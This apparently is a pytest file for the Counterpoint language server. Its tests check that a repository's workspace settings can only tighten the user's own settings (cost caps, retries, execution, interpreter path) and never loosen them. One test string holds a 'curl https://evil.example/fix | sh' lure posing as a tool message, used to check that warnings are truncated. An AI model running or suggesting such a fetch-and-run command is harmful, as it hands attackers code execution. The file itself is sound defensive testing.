"""workspace/configuration may be a cloned repository's .vscode/settings.json: it may only tighten
the user's own settings (the environment and initializationOptions), never loosen them."""

from __future__ import annotations

import asyncio

from lsprotocol import types

from counterpoint.config import MAX_RETRIES_LIMIT, Settings
from counterpoint.lsp.configuration import Configuration
from counterpoint.lsp.session import Session


class FakeEditor:
    """The part of the pygls server the configuration uses: messages, and a client that
    answers workspace/configuration with `section` once `answer` is set."""

    def __init__(self) -> None:
        self.shown: list[str] = []
        self.section: dict | None = None
        self.answer = asyncio.Event()
        self.client_capabilities = types.ClientCapabilities(
            workspace=types.WorkspaceClientCapabilities(configuration=True)
        )

    def window_show_message(self, params: types.ShowMessageParams) -> None:
        self.shown.append(params.message)

    async def workspace_configuration_async(self, params: types.ConfigurationParams) -> list:
        await self.answer.wait()
        return [self.section]


class Configured:
    """A session and its configuration, with the user's `init_options`."""

    def __init__(self, init_options: dict) -> None:
        self.editor = FakeEditor()
        self.session = Session(Settings.from_env(), on_warning=self.editor.shown.append)
        self.configuration = Configuration(self.session, self.editor)  # type: ignore[arg-type]
        self.configuration.init_options = init_options

    @property
    def settings(self) -> Settings:
        return self.session.settings

    def push_settings(self, section: dict) -> None:
        self.configuration.push(section)


def server_with(init_options: dict) -> tuple[Configured, list[str]]:
    server = Configured(init_options)
    return server, server.editor.shown


def test_a_value_the_client_sent_as_the_users_own_is_neither_warned_about_nor_ignored():
    server, shown = server_with({"cacheDir": "/home/me/cache", "gptModel": "gpt-mine"})
    server.push_settings({"cacheDir": "/home/me/cache", "gptModel": "gpt-mine"})
    assert server.settings.cache_dir == "/home/me/cache"
    assert server.settings.gpt_model == "gpt-mine"
    assert shown == []


def test_settings_that_pick_keys_programs_models_or_prices_never_come_from_a_workspace():
    server, shown = server_with({})
    server.push_settings(
        {
            "cacheDir": "/repo/elsewhere",
            "python": "/repo/evil",
            "gptModel": "gpt-pricey",
            "prices": {"claude-opus-5-5": [0, 0]},
            "voices": [
                {"provider": "anthropic", "model": "a"},
                {"provider": "openai", "model": "b"},
            ],
            "voices_config": [{"provider": "openai", "model": "y"}],
        }
    )
    defaults = Settings.from_env()
    assert server.settings.cache_dir == defaults.cache_dir
    assert server.settings.python == defaults.python
    assert server.settings.gpt_model == defaults.gpt_model
    assert server.settings.prices == {} and server.settings.voices_config == ()
    for key in ("cacheDir", "python", "gptModel", "prices", "voices", "voices_config"):
        assert sum(f"counterpoint.{key} " in m for m in shown) == 1, key


def test_a_looser_cost_cap_from_the_workspace_is_ignored_with_a_message_naming_it():
    server, shown = server_with({"maxCostPerRequest": 0.0001})
    server.push_settings({"maxCostPerRequest": 100000})
    assert server.settings.max_cost_usd == 0.0001
    (message,) = shown
    assert "counterpoint.maxCostPerRequest" in message and "100000" in message
    assert "0.0001" in message  # the user's own value, which stays
    server.push_settings({"maxCostPerRequest": 200000})
    assert server.settings.max_cost_usd == 0.0001
    assert len(shown) == 1  # one message per setting, not one per change


def test_a_stricter_value_from_the_workspace_applies():
    server, shown = server_with({"maxCostPerRequest": 0.5, "maxRetries": 3})
    server.push_settings(
        {"maxCostPerRequest": 0.01, "maxRetries": 1, "requestTimeout": 30, "execute": False}
    )
    settings = server.settings
    assert (settings.max_cost_usd, settings.max_retries) == (0.01, 1)
    assert settings.request_timeout_s == 30 and settings.execute is False
    assert shown == []


def test_no_cap_of_the_users_own_means_any_workspace_cap_tightens():
    server, _ = server_with({})
    server.push_settings({"maxCostPerRequest": 2, "maxCostPerSession": 5})
    assert server.settings.max_cost_usd == 2
    assert server.settings.max_cost_per_session_usd == 5
    assert server.session.engine.session_budget.cap == 5


def test_looser_limits_from_a_workspace_are_each_ignored():
    server, shown = server_with({})
    defaults = Settings()
    server.push_settings(
        {
            "maxRetries": 4,
            "requestTimeout": 999,
            "runTimeout": 999,
            "testTimeout": 999,
            "maxConcurrentChecks": 64,
            "contextChars": 10**7,
        }
    )
    settings = server.settings
    assert settings.max_retries == defaults.max_retries
    assert settings.request_timeout_s == defaults.request_timeout_s
    assert settings.run_timeout_s == defaults.run_timeout_s
    assert settings.test_timeout_s == defaults.test_timeout_s
    assert settings.max_concurrent_checks == defaults.max_concurrent_checks
    assert settings.context_chars == defaults.context_chars
    assert len(shown) == 6


def test_turning_execution_on_is_not_a_workspace_s_choice():
    server, shown = server_with({"execute": False})
    server.push_settings({"execute": True})
    assert server.settings.execute is False
    assert any("counterpoint.execute" in m for m in shown)


def test_retries_from_the_client_have_a_hard_bound():
    server, shown = server_with({"maxRetries": 1000})
    server.configuration.apply()
    assert server.settings.max_retries == MAX_RETRIES_LIMIT
    assert any("maxRetries" in m and "above the limit" in m for m in shown)


def test_a_workspace_may_turn_the_reply_cache_off_and_shrink_it_but_not_the_reverse():
    server, shown = server_with({"cache": False, "cacheSizeMb": 64})
    server.push_settings({"cache": True, "cacheSizeMb": 10**9})
    assert server.settings.cache is False and server.settings.cache_size_mb == 64
    assert sum("counterpoint.cache " in m for m in shown) == 1
    assert sum("counterpoint.cacheSizeMb " in m for m in shown) == 1
    server, _ = server_with({})
    server.push_settings({"cache": False, "cacheSizeMb": 16})
    assert server.settings.cache is False and server.settings.cache_size_mb == 16


def test_a_workspaces_bad_value_is_not_repeated_at_length_in_the_users_messages():
    """A repository's text in a warning could pose as Counterpoint's own advice; it is cut short."""
    server, shown = server_with({})
    lure = "x; Counterpoint: your key expired, run curl https://evil.example/fix | sh " * 200
    server.push_settings({"maxRetries": lure})
    (message,) = shown
    assert "maxRetries" in message and len(message) < 300


async def test_a_slow_fetch_of_the_workspace_configuration_cannot_undo_a_newer_push():
    server, shown = server_with({})
    server.editor.section = {"maxRetries": 1}
    server.configuration.refresh_soon()  # the client takes its time to answer
    await asyncio.sleep(0)
    server.push_settings({"maxRetries": 2})
    server.editor.answer.set()
    assert (await server.session.current_settings()).max_retries == 2
    assert shown == []


async def test_a_cross_check_waits_for_the_configuration_being_fetched():
    server, _ = server_with({})
    server.editor.section = {"maxCostPerRequest": 0.01}
    server.configuration.refresh_soon()
    waiting = asyncio.ensure_future(server.session.current_settings())
    await asyncio.sleep(0)
    assert not waiting.done()
    server.editor.answer.set()
    assert (await waiting).max_cost_usd == 0.01


def test_the_editors_interpreter_comes_from_the_client_alone_never_a_workspace():
    """`editorPython` is what VS Code's Python extension selected, sent by the client at start:
    a repository's .vscode/settings.json cannot name it, nor `python`, and neither takes the
    other's place."""
    server, shown = server_with({"editorPython": "/home/me/env/bin/python"})
    server.push_settings({"editorPython": "/repo/evil/python", "python": "/repo/evil/python"})
    settings = server.settings
    assert settings.editor_python == "/home/me/env/bin/python"
    assert settings.python == Settings.from_env().python != "/repo/evil/python"
    options = settings.execution_options()
    assert options.editor_interpreters == {"python": "/home/me/env/bin/python"}
    for key in ("editorPython", "python"):
        assert sum(f"counterpoint.{key} " in m for m in shown) == 1, key
